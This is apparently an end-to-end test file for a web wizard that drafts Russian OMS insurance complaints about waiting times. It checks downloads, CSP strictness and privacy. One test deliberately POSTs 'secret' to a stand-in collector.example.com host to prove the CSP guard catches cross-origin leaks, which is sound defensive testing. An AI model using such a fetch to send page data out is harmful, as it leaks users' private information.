// The walking skeleton, end to end: start → waiting-time questions → check
// answers → download the .txt, against the release dist/ in Chromium.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { serve, launch, assertPrivate, cspViolations, continueTo, fillDate, ARTIFACTS } from './harness.mjs';

test('a whole wizard run downloads the complaint and sends nothing', async () => {
  const server = await serve();
  const b = await launch();
  try {
    const { page } = b;
    await page.goto(server.url);
    await page.getByRole('heading', { level: 1, name: 'Составить жалобу по полису ОМС' }).waitFor();
    const interactiveAt = Date.now();
    // The page's own policy stays strict: no inline scripts, no eval, no other origins.
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval';/);
    assert.match(csp, /connect-src 'self';/);
    assert.doesNotMatch(csp, /unsafe-inline|'unsafe-eval'|https?:|\*/);

    await page.getByRole('button', { name: 'Начать' }).click();
    await page.getByRole('heading', { level: 1, name: 'Что случилось?' }).waitFor();
    await page.getByText('Долго ждать помощи').click();
    await page.getByLabel('Слишком долго ждать приёма врача').check();
    await continueTo(page, 'Кто подаёт жалобу?');
    await continueTo(page, 'Чего вы ждёте?');
    await page.getByLabel('КТ, МРТ или ангиографии').check();
    await continueTo(page, /подозревает/);
    await page.getByLabel('Нет или не знаю').check();
    await continueTo(page, /К какому врачу/);
    await page.fill('#zh-facts-service-name', 'МРТ коленного сустава');
    await continueTo(page, /Когда вам выдали направление/);

    // A wrong month gets a specific message and keeps what was typed.
    await fillDate(page, 'referral-date', ['5', '13', '2026']);
    await page.getByRole('button', { name: 'Продолжить' }).click();
    await page.getByText('Месяц должен быть числом от 1 до 12').first().waitFor();
    assert.match(await page.title(), /^Ошибка: /);
    assert.equal(await page.inputValue('#zh-facts-referral-date-day'), '5');
    await page.fill('#zh-facts-referral-date-month', '5');
    await continueTo(page, /На какую дату/);
    await fillDate(page, 'offered-date', ['15', '6', '2026']);
    await continueTo(page, /Что вам ответили/);
    await page.fill('#zh-facts-what-they-said', 'талонов нет, звоните в начале месяца');
    // Nothing else happened: the related problems are offered, none ticked.
    await continueTo(page, 'Случилось ли в тот раз что-то ещё?');
    await continueTo(page, 'В какой клинике это произошло?');
    await page.fill('#zh-clinic-name', 'ОГБУЗ «Городская поликлиника № 1»');
    await continueTo(page, 'Ваша страховая компания по ОМС');
    await page.fill('#zh-insurer-name', 'АО «Страховая медицинская компания»');
    await continueTo(page, 'Ваши данные для ответа');
    await page.fill('#zh-applicant-full-name', 'Иванова Алёна Сергеевна');
    await page.getByLabel('в женском роде (обратилась)').check();
    await page.fill('#zh-applicant-postal-address', '156005, г. Кострома, ул. Советская, д. 1, кв. 2');
    await page.fill('#zh-applicant-policy-number', '5260181590830164');
    await continueTo(page, 'Проверьте ответы');
    assert.match(await page.title(), /^Шаг 14 из 14 — Проверьте ответы/);
    await page.getByText('Срок ожидания нарушен').waitFor();
    await page.screenshot({ path: join(ARTIFACTS, 'skeleton-check.png'), fullPage: true });

    const save = async (name) => {
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name }).click(),
      ]);
      const file = join(ARTIFACTS, download.suggestedFilename());
      await download.saveAs(file);
      return { name: download.suggestedFilename(), file };
    };
    const txt = await save('Скачать текст (TXT)');
    assert.match(txt.name, /^zhaloba-\d{4}-\d{2}-\d{2}-ozhidanie\.txt$/);
    const text = readFileSync(txt.file, 'utf8');
    for (const expected of [
      'АО «Страховая медицинская компания»',
      'Заявитель: Иванова Алёна Сергеевна',
      'полис ОМС № 5260181590830164',
      'ЖАЛОБА',
      '5 мая 2026 г. мне было выдано направление',
      'МРТ коленного сустава',
      '«талонов нет, звоните в начале месяца»',
      'истёк 26 мая 2026 г.',
      'ОГБУЗ «Городская поликлиника № 1»',
      'А.\u00a0С. Иванова',
    ]) {
      assert.ok(text.includes(expected), `letter lacks: ${expected}\n${text}`);
    }

    // Every format downloaded in the browser is byte for byte what the CLI
    // makes from the same answers.
    const today = await page.evaluate(() => {
      const d = new Date();
      return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
    });
    const caseFile = join(ARTIFACTS, 'skeleton-case.json');
    writeFileSync(caseFile, JSON.stringify({
      version: 1,
      category: 'waiting-time',
      applicant: {
        full_name: 'Иванова Алёна Сергеевна', gender: 'female',
        postal_address: '156005, г. Кострома, ул. Советская, д. 1, кв. 2', policy_number: '5260181590830164',
      },
      insurer: { name: 'АО «Страховая медицинская компания»' },
      clinic: { name: 'ОГБУЗ «Городская поликлиника № 1»' },
      facts: {
        service: 'ct-mri', suspicion: 'none', service_name: 'МРТ коленного сустава',
        referral_date: '2026-5-5', offered_date: '2026-6-15', what_they_said: 'талонов нет, звоните в начале месяца',
      },
      signed_on: today,
    }));
    const downloads = [
      txt,
      await save('Скачать для Word (DOCX)'),
      await save('Напоминание о сроке ответа (.ics)'),
      await save('Скачать PDF для печати'),
      // A second PDF uses the cached fonts (the guard below checks: no second fetch).
      await save('Скачать PDF для печати'),
    ];
    for (const d of downloads) {
      const ext = d.name.split('.').pop();
      const cliOut = join(ARTIFACTS, `cli.${ext}`);
      execFileSync('target/debug/zhaloba', ['render', caseFile, '--format', ext, '--out', cliOut]);
      assert.ok(readFileSync(d.file).equals(readFileSync(cliOut)), `${d.name} differs from the CLI's ${ext}`);
    }

    // The on-screen preview is the print view: the same HTML the CLI writes.
    // Compared as DOM trees: serialisation differs (&nbsp;, quotes), the nodes must not.
    const cliHtml = join(ARTIFACTS, 'cli.html');
    execFileSync('target/debug/zhaloba', ['render', caseFile, '--format', 'html', '--out', cliHtml]);
    const same = await page.evaluate((html) => {
      const doc = new DOMParser().parseFromString(html, 'text/html');
      return doc.querySelector('article').isEqualNode(document.querySelector('#zh-preview-0 article'));
    }, /<article[\s\S]*<\/article>/.exec(readFileSync(cliHtml, 'utf8'))[0]);
    assert.ok(same, 'preview differs from the print HTML');

    // Print CSS: with a letter marked for printing, only that letter shows on paper.
    await page.evaluate(() => document.getElementById('zh-preview-0').classList.add('zh-print-target'));
    await page.emulateMedia({ media: 'print' });
    const visibility = await page.evaluate(() => [
      getComputedStyle(document.querySelector('.zh-h1')).visibility,
      getComputedStyle(document.querySelector('#zh-preview-0 .zh-letter-title')).visibility,
    ]);
    assert.deepEqual(visibility, ['hidden', 'visible']);
    await page.emulateMedia({ media: 'screen' });
    await assertPrivate(assert, b, server.origin, interactiveAt);
  } finally {
    await b.close();
    server.close();
  }
});

test('the privacy guard catches a request to another origin', async () => {
  // Proves the guard above is not vacuous: a leak attempted by page code is seen.
  const server = await serve();
  const b = await launch();
  try {
    await b.page.goto(server.url);
    await b.page.getByRole('heading', { level: 1 }).waitFor();
    await b.page.evaluate(() => fetch('https://collector.example.com/x', { method: 'POST', body: 'secret' }).catch(() => {}));
    await b.page.waitForTimeout(200);
    const v = await cspViolations(b.page, b.violations);
    assert.ok(v.some((x) => /connect-src/.test(x) && /collector\.example\.com/.test(x)), `not caught: ${JSON.stringify(v)}`);
  } finally {
    await b.close();
    server.close();
  }
});
